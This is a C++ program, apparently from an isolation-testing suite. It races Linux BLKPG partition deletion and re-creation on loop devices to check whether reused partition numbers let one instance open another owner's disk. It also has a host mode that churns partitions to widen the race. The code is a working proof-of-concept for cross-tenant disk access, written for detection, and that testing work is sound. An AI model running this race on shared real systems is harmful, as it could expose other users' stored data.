// The kernel takes the numbers of partitions (259:M) for all disks from one heap, and gives the lowest free one: a
// partition that is deleted and made again may have another number, and its old one be on somebody else's disk.
//
//   partitions DIRECTORY PREFIX FILE SECONDS    in an instance: deletes and makes loop0p1, and opens what it was
//   partitions host OWNER FILE SECONDS          a disk of the host whose partitions come and go
#include <linux/blkpg.h>

#include "attack.h"

static int edit(int disk, int operation) {
  blkpg_partition partition = {};
  partition.pno = 1;
  partition.length = 32768;
  blkpg_ioctl_arg argument = {};
  argument.op = operation;
  argument.datalen = sizeof partition;
  argument.data = &partition;
  return ioctl(disk, BLKPG, &argument) == 0 ? 0 : errno;
}

static void pause_us(long us) {
  const timespec time = {0, us * 1000};
  nanosleep(&time, nullptr);
}

static int host(char** argv) {
  const int control = open("/dev/loop-control", O_RDWR | O_CLOEXEC), file = open(argv[3], O_RDWR | O_CLOEXEC);
  int disk = -1;
  for (int tries = 0; disk < 0 && tries < 100; ++tries) {
    const int number = ioctl(control, LOOP_CTL_GET_FREE);
    disk = open(node("/dev", static_cast<unsigned>(number)).c_str(), O_RDWR | O_CLOEXEC);
    if (disk >= 0 && configure(disk, file, LO_FLAGS_AUTOCLEAR) != 0) {
      close(disk);
      disk = -1;
    }
  }
  if (disk < 0) broken("bind a device of the host");
  unsigned long rounds = 0;
  for (const double end = now() + atof(argv[4]); now() < end; ++rounds) {
    edit(disk, BLKPG_ADD_PARTITION);
    pause_us(2000);
    edit(disk, BLKPG_DEL_PARTITION);
    pause_us(500);
  }
  printf("partitions host: %lu made\n", rounds);
  return 0;
}

int main(int argc, char** argv) {
  if (argc != 5) return 2;
  if (strcmp(argv[1], "host") == 0) return host(argv);
  const std::string disk_node = node(argv[1], 0), part_node = disk_node + "p1",
                    own = std::string(argv[2]) + "-";
  const int file = open(argv[3], O_RDWR | O_CLOEXEC);
  const int disk = open(disk_node.c_str(), O_RDWR | O_CLOEXEC);
  if (file < 0 || disk < 0 || is_block(disk)) broken("open %s and %s, free", argv[3], disk_node.c_str());
  if (const int error = configure(disk, file)) errno = error, broken("LOOP_CONFIGURE");
  unsigned long rounds = 0, moved = 0, opened = 0, stale = 0;
  for (const double end = now() + atof(argv[4]); now() < end; ++rounds) {
    if (const int error = edit(disk, BLKPG_ADD_PARTITION); error != 0 && error != EBUSY)
      errno = error, broken("BLKPG_ADD");
    const int kept = open(part_node.c_str(), O_PATH | O_CLOEXEC);
    struct stat before = {};
    if (kept < 0 || fstat(kept, &before) != 0) continue;
    const double patience = now() + 0.2;
    while (edit(disk, BLKPG_DEL_PARTITION) == EBUSY && now() < patience) pause_us(100);
    pause_us(static_cast<long>(rounds % 5) * 500);
    edit(disk, BLKPG_ADD_PARTITION);
    // What was looked up before, by the descriptor and by the name, whose inode may be the same.
    for (const std::string& path : {"/proc/self/fd/" + std::to_string(kept), part_node}) {
      const int part = open(path.c_str(), O_RDONLY | O_CLOEXEC);
      if (part < 0) {
        ++stale;
        continue;
      }
      ++opened;
      if (kind_of(part).minor != minor(before.st_rdev)) ++moved;
      const std::string mark = mark_of(part);
      if (!starts_with(mark, own)) {
        leak("%s, which was %u:%u, shows the mark '%.40s'", path.c_str(), major(before.st_rdev),
             minor(before.st_rdev), mark.c_str());
      }
      close(part);
    }
    close(kept);
    while (edit(disk, BLKPG_DEL_PARTITION) == EBUSY && now() < patience) pause_us(100);
  }
  ioctl(disk, LOOP_CLR_FD);
  printf("partitions %s: %lu rounds, %lu opened (%lu with a new number), %lu refused; no other's mark\n",
         argv[2], rounds, opened, moved, stale);
  return opened > 0 ? 0 : 1;
}
